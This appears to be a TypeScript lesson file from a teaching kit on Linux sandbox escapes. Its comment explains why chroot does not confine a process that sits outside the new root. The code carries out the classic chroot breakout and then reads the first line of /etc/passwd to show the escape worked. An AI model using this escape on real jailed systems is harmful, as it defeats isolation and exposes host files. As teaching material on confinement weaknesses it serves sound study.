/**
 * Out of lesson 3: chroot(2) only moves the mark at which `..` stops. A process that stands outside of a new mark never
 * meets it on its way up.
 */

import { type BreakOut, execute } from 'tsrun/lessons/kit.ts';
import { AT_FDCWD } from 'tsrun/linux/constants.ts';

export default {
  attack(b) {
    b.call('mkdirat', [AT_FDCWD, b.text('/tmp/deeper'), 0o700], { title: 'a directory below' });
    b.call('chroot', [b.text('/tmp/deeper')], { title: 'move the mark there, and stay outside of it' });
    b.call('chdir', [b.text('../../../../../../..')], { title: 'go up, past where the mark was' });
    b.call('chroot', [b.text('.')], { title: 'and make that the root' });
    execute(b, ['head', '-n', '1', '/etc/passwd']);
  },
} satisfies BreakOut;
